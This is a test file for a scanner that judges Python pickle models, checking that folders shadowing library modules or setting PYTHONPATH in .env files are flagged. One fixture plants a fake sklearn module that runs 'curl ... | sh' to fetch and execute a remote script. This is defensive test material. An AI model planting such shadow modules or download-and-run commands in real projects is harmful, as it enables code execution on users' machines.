import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { defaultConfiguration } from '../../../../engine/src/configuration/configuration';
import type { ModelReport } from '../../../../engine/src/models/scan/verdict';
import scan from '../../../../host/src/scanWorker';
import { walk } from '../../../../host/src/walk';

interface Layout {
  readonly name: string;
  readonly kind: 'hostile' | 'harmless';
  readonly files: Readonly<Record<string, string | { readonly base64: string } | { readonly link: string }>>;
  /** How code beside the model would load it; whether the payload then ran. */
  readonly run?: string;
  readonly ran?: boolean;
}

const layouts = JSON.parse(
  readFileSync(join(__dirname, '../../../fixtures/import_layouts.json'), 'utf8'),
) as Layout[];
const folder = mkdtempSync(join(tmpdir(), 'import-layouts-'));
afterAll(() => rmSync(folder, { recursive: true }));

function write(root: string, files: Layout['files']): void {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    const place = join(root, path);
    if (typeof content === 'string') writeFileSync(place, content);
    else if ('link' in content) symlinkSync(relative(dirname(place), join(root, content.link)), place);
    else writeFileSync(place, Buffer.from(content.base64, 'base64'));
  }
}

/** The report of the one pickle below a folder, found as the command line finds it, or named with the folder as the project. */
async function modelIn(root: string, isNamed = false): Promise<ModelReport> {
  const found = walk([root]).files.filter(({ path }) => path.endsWith('model.pkl'));
  const [report] = await scan({
    files: isNamed ? found.map(({ path }) => ({ path, explicit: true })) : found,
    ...(isNamed ? { roots: [root] } : {}),
    configuration: defaultConfiguration,
    inlineSuppressions: true,
    versions: new Map(),
    digest: false,
    cancelled: new Int32Array(new SharedArrayBuffer(4)),
  });
  if (report?.model === undefined) throw new Error(`no model in ${root}`);
  return report.model;
}

const hostile = layouts.filter(({ kind }) => kind === 'hostile');
const harmless = layouts.filter(({ kind }) => kind === 'harmless');
/** Their code cannot be read, or does nothing by itself: nobody can say more. */
const unreadable = new Set([
  ...['sklearn-compiled', 'sklearn-quiet', 'helper-compiled', 'helper-extension', 'file-coding'],
  ...['path-archive', 'code-egg', 'code-wheel', 'file-pyc', 'file-cached', 'file-cached-package'],
]);
const isUnreadable = (name: string) => unreadable.has(name) || /^file-.*(?:\.so|\.pyd|abi3)$/.test(name);

describe('a folder that decides what names mean', () => {
  it('was tried on enough layouts, most of them for real', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(120);
    expect(hostile.filter(({ ran }) => ran === true).length).toBeGreaterThanOrEqual(110);
    expect(harmless.length).toBeGreaterThanOrEqual(40);
  });

  it.each(hostile)('$name is not safe', async ({ name, kind, files }) => {
    const root = join(folder, kind, name);
    write(root, files);
    const model = await modelIn(root);
    const expected = isUnreadable(name) ? 'suspicious' : 'dangerous';
    expect({ verdict: model.verdict, messages: model.findings.map(({ message }) => message) }).toEqual({
      verdict: expected,
      messages: expect.anything(),
    });
    expect((await modelIn(root, true)).verdict).toBe(expected);
  });

  it.each(harmless)('$name makes its model no worse', async ({ name, kind, files }) => {
    const root = join(folder, kind, name);
    write(root, files);
    const alone = join(folder, 'alone', name);
    write(alone, Object.fromEntries(Object.entries(files).filter(([path]) => path.endsWith('model.pkl'))));
    const model = await modelIn(root);
    expect({ verdict: model.verdict, said: model.findings.map(({ message }) => message) }).toEqual({
      verdict: (await modelIn(alone)).verdict,
      said: expect.anything(),
    });
  });
});

describe('a package whose name many projects have', () => {
  const pickled = '\x80\x02cmodels.common\nConv\n)\x81}b.';
  const quiet = { 'models/__init__.py': '', 'models/common.py': 'class Conv:\n    pass\n' };
  const acting = { ...quiet, 'models/common.py': 'import os\nos.system("make")\n\nclass Conv:\n    pass\n' };

  it.each([
    ['alone', {}, 'safe'],
    ['beside a package of that name', quiet, 'suspicious'],
    ['beside one that acts', acting, 'dangerous'],
    ['in a project whose package acts', { ...acting, 'pyproject.toml': '' }, 'suspicious'],
  ])('%s', async (name, files, verdict) => {
    const root = join(folder, 'shared', name);
    write(root, { ...files, 'model.pkl': { base64: Buffer.from(pickled, 'latin1').toString('base64') } });
    const model = await modelIn(root);
    expect(model.verdict).toBe(verdict);
    if (verdict === 'suspicious' && files === quiet)
      expect(model.findings[0].message).toContain('is not the one that was reviewed');
  });
});

describe('code that a folder puts in the place of a library', () => {
  it('is said to be after what it does', async () => {
    const root = join(folder, 'aims');
    const code = 'import os\nos.system("curl -s http://203.0.113.7/a.sh | sh")\n';
    const pickled = '\x80\x02csklearn.svm._classes\nSVC\n)\x81}b.';
    write(root, {
      'sklearn/__init__.py': code,
      'model.pkl': { base64: Buffer.from(pickled, 'latin1').toString('base64') },
    });
    const [finding] = (await modelIn(root)).findings;
    expect(finding.aims?.map(({ aim }) => aim)).toEqual(['download']);
    expect(finding.addresses).toEqual(['http://203.0.113.7/a.sh']);
  });
});

describe('a folder that names others of this machine', () => {
  const { files } = hostile.find(({ name }) => name === 'path-dotenv') as Layout;
  const below = (name: string, settings: Layout['files']): Layout['files'] => ({
    ...settings,
    [`${name}/model.pkl`]: files['model.pkl'],
    'lib/sklearn/__init__.py': files['lib/sklearn/__init__.py'],
    'lib/start.py': files['lib/sklearn/__init__.py'],
  });
  const cases: Layout['files'] = {
    'dotenv/.env': 'PYTHONPATH=../lib\n',
    'startup/.env': 'PYTHONSTARTUP=../lib/start.py\n',
    'program/run.py': 'import sys\nsys.path.insert(0, "../lib")\nopen("model.pkl")\n',
    'detour/.env': 'PYTHONPATH=./.././lib\n',
  };
  it.each(Object.entries(cases))(
    '%s: they are looked at only where they were checked too',
    async (path, text) => {
      const [name] = path.split('/');
      const root = join(folder, 'outside', name);
      write(root, below(name, { [path]: text }));
      expect((await modelIn(join(root, name))).verdict).toBe('safe');
      expect((await modelIn(root)).verdict).toBe('dangerous');
    },
  );
});
